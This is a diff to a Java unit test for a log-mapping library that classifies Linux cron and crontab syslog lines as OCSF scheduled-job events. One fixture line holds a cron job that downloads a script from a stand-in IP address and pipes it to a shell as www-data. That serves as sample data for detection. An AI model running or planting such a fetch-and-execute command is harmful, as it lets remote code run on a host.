@@ -11,6 +11,7 @@ import static io.socaas.events.ocsf.MappedRecords.line;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import com.fasterxml.jackson.databind.JsonNode;
+import java.util.List;
 import org.junit.jupiter.api.Test;
 
 /**
@@ -162,6 +163,42 @@ class LinuxHostAndServerMappingsTest {
         // the tools' other lines are Base Events of Linux; the same words from another program are not claimed
         assertBaseEventOf(line("<38>Mar  1 09:00:00 web1 useradd[2240]: useradd: cannot open /etc/passwd"), "Linux");
         assertThat(line("<38>Mar  1 09:00:00 web1 myapp[1]: new user: name=x, UID=1")
+                        .get("class_uid")
+                        .asInt())
+                .isZero();
+    }
+
+    @Test
+    void cronJobsRunAndCrontabsChangedAreScheduledJobActivity() throws Exception {
+        // Debian's cron and cronie's crond
+        for (String program : List.of("CRON[4242]", "crond[881]")) {
+            JsonNode run = line("<78>Mar  1 09:17:01 web1 " + program
+                    + ": (www-data) CMD (curl -fsSL http://203.0.113.9/x.sh | sh > /dev/null 2>&1)");
+            assertThat(run.get("class_uid").asInt()).as(program).isEqualTo(1006);
+            assertThat(run.get("activity_id").asInt()).isEqualTo(6);
+            assertThat(run.at("/job/cmd_line").asText())
+                    .isEqualTo("curl -fsSL http://203.0.113.9/x.sh | sh > /dev/null 2>&1");
+            assertThat(run.at("/actor/user/name").asText()).isEqualTo("www-data");
+        }
+        JsonNode reload = line("<78>Mar  1 09:18:01 web1 cron[612]: (www-data) RELOAD (crontabs/www-data)");
+        assertThat(reload.get("class_uid").asInt()).isEqualTo(1006);
+        assertThat(reload.get("activity_id").asInt()).as("Update").isEqualTo(2);
+        assertThat(reload.at("/job/name").asText()).isEqualTo("crontabs/www-data");
+        JsonNode replaced = line("<78>Mar  1 09:17:55 web1 crontab[5120]: (root) REPLACE (www-data)");
+        assertThat(replaced.get("activity_id").asInt()).as("Update").isEqualTo(2);
+        assertThat(replaced.at("/actor/user/name").asText()).isEqualTo("root");
+        assertThat(replaced.at("/job/name").asText()).isEqualTo("www-data");
+        assertThat(line("<78>Mar  1 09:19:00 web1 crontab[5121]: (bob) DELETE (bob)")
+                        .get("activity_id")
+                        .asInt())
+                .as("Delete")
+                .isEqualTo(3);
+        // cron's other words are no job run
+        assertThat(line("<78>Mar  1 09:17:01 web1 CRON[4242]: (CRON) info (No MTA installed, discarding output)")
+                        .get("class_uid")
+                        .asInt())
+                .isZero();
+        assertThat(line("<78>Mar  1 09:17:01 web1 crontab[5122]: (bob) LIST (bob)")
                         .get("class_uid")
                         .asInt())
                 .isZero();
